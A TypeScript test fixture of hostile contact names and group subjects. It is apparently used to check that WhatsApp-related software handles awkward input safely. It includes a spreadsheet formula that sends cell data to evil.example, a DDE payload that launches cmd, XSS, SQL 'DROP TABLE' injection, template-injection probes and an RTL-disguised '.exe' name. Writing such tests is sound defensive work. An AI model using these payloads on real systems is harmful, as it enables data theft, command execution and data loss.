/**
 * Names that break careless software: spreadsheets, markup, SQL, JavaScript objects, terminals, column widths.
 * None holds a lone surrogate, for those cannot travel as UTF-8.
 */
export const hostileNames: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+62',
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '&amp;',
  "Robert'); DROP TABLE contacts;--",
  'O"Brien\\, "Toko"',
  'constructor',
  '__proto__',
  'toString',
  '  ',
  '\u00a0\u2003\u200b',
  'Ibu\nSari\r\nRT 05',
  'Nama\tdengan\ttab',
  'bel\u0007 dan nol\u0000 \u001b[31mmerah',
  '\u202eملف.exe\u202c',
  '\u200fשלום עולם',
  '👨‍👩‍👧‍👦👩🏽‍🚀🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  'Z̴̛͎a̷͔̚l̶̩͌g̷̟̈o̴͇͝',
  `${'Nama yang sangat panjang '.repeat(12).slice(0, 299)}.`,
  '6281234567890',
  '6281234567890@s.whatsapp.net',
  'null',
  '\ufeffBOM di depan',
  '%s%n#{7*7}{{7*7}}',
  'e\u0301 bukan \u00e9',
];

/** Group subjects of the same kind; WhatsApp's own limit is 100 characters, old groups and other clients exceed it. */
export const hostileSubjects: readonly string[] = [
  'Rapat 10:30 @Aula',
  'Panitia '.repeat(38).slice(0, 300),
  '👨‍👩‍👧‍👦 Keluarga Besar 🎉🇮🇩',
  'constructor',
  '=HYPERLINK("http://evil.example","klik")',
  '<script>alert("grup")</script>',
  '__proto__',
  "Grup'); DROP TABLE groups;--",
  '\u202eقائمة\u202c العائلة',
  'Baris satu\nbaris dua\tkolom',
  '120363000000000000@g.us',
  '-1+1',
];

/** A description of about 2,000 characters with line breaks, markup, addresses and many scripts. */
export const longDescription = [
  'Aturan grup:\n1. Sopan & santun.\n2. Dilarang <b>spam</b>.\n3. Info: https://contoh.example/?a=1&b=2 @admin\n',
  'نص عربي، 中文说明, हिन्दी, ไทย, Русский 👩🏽‍🚀\n',
  'Iuran RT dibayar setiap tanggal 10 ke bendahara. '.repeat(38),
].join('');
